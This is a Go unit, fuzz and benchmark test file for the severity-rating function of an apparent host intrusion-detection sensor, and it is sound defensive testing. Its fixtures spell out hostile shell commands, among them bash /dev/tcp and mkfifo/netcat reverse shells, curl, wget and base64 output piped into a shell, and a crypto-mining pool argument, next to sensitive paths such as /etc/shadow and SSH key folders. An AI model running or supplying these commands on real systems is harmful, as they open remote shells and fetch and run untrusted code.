package severity

import (
	"path"
	"strings"
	"testing"

	"github.com/apss-sensor/apss/shared/event"
)

func run(exe string, args ...string) *event.Event {
	return &event.Event{Type: event.ProcessExec, Process: &event.Process{Exe: exe, Args: args, Cmdline: strings.Join(args, " ")}}
}

func sh(script string) *event.Event { return run("/usr/bin/bash", "bash", "-c", script) }

func socket(e *event.Event) *event.Event {
	e.Metadata = map[string]any{"stdio_socket": true}
	return e
}

func deleted(e *event.Event) *event.Event {
	e.Process.ExeDeleted = true
	return e
}

func file(t event.Type, p string) *event.Event {
	return &event.Event{Type: t, File: &event.File{Path: p, FileState: event.FileState{Mode: "0644"}}}
}

func conn(t event.Type, exe string, n event.Network) *event.Event {
	e := &event.Event{Type: t, Network: &n}
	if exe != "" {
		e.Process = &event.Process{Exe: exe, Args: []string{path.Base(exe)}}
	}
	return e
}

func TestOf(t *testing.T) {
	setuid := file(event.FileChmod, "/home/bob/x")
	setuid.File.Mode = "4755"
	bad, out := event.Network{IsSuspiciousPort: true}, event.Network{IsExternal: true}
	for name, tt := range map[string]struct {
		event *event.Event
		want  event.Severity
	}{
		"a program":                 {run("/usr/bin/ls", "ls", "-l"), event.Info},
		"a shell":                   {run("/usr/bin/bash", "-bash"), event.Low},
		"a shell in busybox":        {run("/bin/busybox", "sh"), event.Low},
		"busybox runs a shell":      {run("/bin/busybox", "busybox", "sh"), event.Low},
		"sleep in busybox":          {run("/bin/busybox", "sleep", "1"), event.Info},
		"a shell by name only":      {run("", "/bin/sh"), event.Low},
		"called a shell":            {run("/usr/bin/ls", "sh"), event.Info},
		"in /tmp":                   {run("/tmp/x", "x"), event.Medium},
		"in a folder like /tmp":     {run("/tmpfiles/x", "x"), event.Info},
		"deleted":                   {deleted(run("/usr/bin/x", "x")), event.High},
		"memfd":                     {deleted(run("/memfd:x", "[kworker]")), event.High},
		"runc":                      {deleted(run("/memfd:runc_cloned:/proc/self/exe", "runc", "init")), event.Medium},
		"shell, socket":             {socket(run("/bin/bash", "bash")), event.Medium},
		"interactive shell, socket": {socket(run("/bin/bash", "bash", "-i")), event.High},
		"service, socket":           {socket(run("/usr/sbin/x", "x", "-i")), event.Info},
		"dev tcp":                   {sh("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"), event.High},
		"search for dev tcp":        {run("/usr/bin/grep", "grep", "/dev/tcp/", "x"), event.Info},
		"curl into a shell":         {sh("curl -s http://x/y.sh | sudo /bin/sh"), event.High},
		"wget into python":          {sh("wget -qO- http://x|python3 -"), event.High},
		"curl in a substitution":    {sh(`eval "$(curl http://x)"`), event.High},
		"curl into a file":          {sh("curl http://x > y; ls | sort"), event.Low},
		"curl into a pipe":          {sh("curl http://x | jq ."), event.Low},
		"base64 into a shell":       {sh("echo aGk= | base64 -d | sh"), event.High},
		"base64 into a file":        {sh("echo aGk= | base64 --decode > x"), event.Low},
		"fifo":                      {sh("mkfifo /tmp/f; cat /tmp/f | sh -i | nc h 1 > /tmp/f"), event.High},
		"nc in a script":            {sh("nc -e /bin/sh 1.2.3.4 1"), event.High},
		"nc -e":                     {run("/usr/bin/nc.traditional", "nc", "-lve", "/bin/sh"), event.High},
		"ncat --exec":               {run("/usr/bin/ncat", "ncat", "--exec", "/bin/sh"), event.High},
		"nc":                        {run("/usr/bin/nc", "nc", "-vz", "example.com", "80"), event.Info},
		"miner":                     {run("/opt/XMRig", "x"), event.High},
		"pool":                      {run("/opt/x", "x", "-o", "stratum+tcp://pool:3333"), event.High},
		"about a miner":             {run("/usr/bin/vim", "vim", "xmrig.md"), event.Info},
		"python reverse shell":      {run("/usr/bin/python3.12", "python3", "-c", "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"), event.High},
		"python server":             {run("/usr/bin/python3.12", "python3", "-m", "http.server"), event.Info},
		"no process":                {&event.Event{Type: event.ProcessExec}, event.Info},
		"exit":                      {&event.Event{Type: event.ProcessExit, Process: sh("/dev/tcp/").Process}, event.Info},

		"passwd":           {file(event.FileModify, "/etc/passwd"), event.High},
		"passwd, odd path": {file(event.FileDelete, "/etc/../etc//shadow"), event.High},
		"passwd's backup":  {file(event.FileModify, "/etc/passwd-"), event.Medium},
		"root's keys":      {file(event.FileCreate, "/root/.ssh/x"), event.High},
		"a user's keys":    {file(event.FileCreate, "/home/bob/.ssh/authorized_keys"), event.High},
		"crontab":          {file(event.FileRename, "/etc/crontab"), event.High},
		"cron.d":           {file(event.FileCreate, "/etc/cron.d/x"), event.High},
		"spool":            {file(event.FileChown, "/var/spool/cron/root"), event.High},
		"sudoers.d":        {file(event.FileChmod, "/etc/sudoers.d/x"), event.High},
		"setuid":           {setuid, event.High},
		"a binary":         {file(event.FileModify, "/usr/bin/ls"), event.Medium},
		"a user's file":    {file(event.FileModify, "/home/bob/x"), event.Low},
		"read shadow":      {file(event.FileRead, "/etc/shadow"), event.Medium},
		"read passwd":      {file(event.FileRead, "/etc/passwd"), event.Info},
		"read":             {file(event.FileRead, "/home/bob/x"), event.Info},
		"no file":          {&event.Event{Type: event.FileModify}, event.Info},

		"suspicious connect":           {conn(event.NetworkConnect, "/usr/bin/app", bad), event.High},
		"suspicious connect, unknown":  {conn(event.NetworkConnect, "", bad), event.High},
		"suspicious listen":            {conn(event.NetworkListen, "/usr/bin/app", bad), event.High},
		"suspicious connect, shell":    {conn(event.NetworkConnect, "/bin/bash", bad), event.Critical},
		"suspicious listen, shell":     {conn(event.NetworkListen, "/bin/bash", bad), event.Critical},
		"suspicious connect, stdin":    {socket(conn(event.NetworkConnect, "/usr/bin/app", bad)), event.Critical},
		"suspicious close":             {conn(event.NetworkClose, "/bin/bash", bad), event.Info},
		"external":                     {conn(event.NetworkConnect, "/usr/bin/app", out), event.Low},
		"external, shell":              {conn(event.NetworkConnect, "/bin/bash", out), event.Medium},
		"external, shell's stdin":      {socket(conn(event.NetworkConnect, "/bin/bash", out)), event.Critical},
		"internal, shell's stdin":      {socket(conn(event.NetworkConnect, "/bin/bash", event.Network{})), event.Critical},
		"internal, a service's stdin":  {socket(conn(event.NetworkConnect, "/usr/bin/app", event.Network{})), event.Info},
		"internal":                     {conn(event.NetworkConnect, "/usr/bin/app", event.Network{}), event.Info},
		"listen":                       {conn(event.NetworkListen, "/usr/bin/app", event.Network{}), event.Low},
		"no network":                   {&event.Event{Type: event.NetworkConnect}, event.Info},
		"heartbeat":                    {&event.Event{Type: event.AgentHeartbeat}, event.Info},
		"what it was before is nought": {&event.Event{Type: event.AgentHeartbeat, Severity: event.High}, event.Info},
	} {
		t.Run(name, func(t *testing.T) {
			if got := Of(tt.event); got != tt.want {
				t.Errorf("Of = %v, want %v", got, tt.want)
			}
		})
	}
}

func FuzzOf(f *testing.F) {
	f.Add("/bin/bash", "bash\x00-c\x00curl x | sh", "/etc/passwd", "4755", true)
	f.Add("", "-", "", "8", false)
	f.Add("/", "/\x00", "../..", "-1", true)
	f.Fuzz(func(t *testing.T, exe, args, p, mode string, mark bool) {
		e := run(exe, strings.Split(args, "\x00")...)
		e.Metadata = map[string]any{"stdio_socket": mark}
		e.File = &event.File{Path: p, FileState: event.FileState{Mode: mode}}
		e.Network = &event.Network{IsExternal: mark}
		for _, e.Type = range event.Types() {
			if got := Of(e); got > event.Critical {
				t.Errorf("%s: got %v", e.Type, got)
			}
		}
	})
}

func BenchmarkOf(b *testing.B) {
	for name, e := range map[string]*event.Event{
		"program":      run("/usr/bin/java", "java", "-Xmx2g", "-jar", "/opt/app.jar"),
		"shell":        sh("set -e; cd /srv/app && exec ./run --listen :8080 --config /etc/app.yaml"),
		"longest":      sh(strings.Repeat("curl base64 -d mkfifo nc ", 4096/25)),
		"network":      conn(event.NetworkConnect, "/usr/bin/app", event.Network{}),
		"a file's end": file(event.FileModify, "/home/bob/x"),
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Of(e)
			}
		})
	}
}
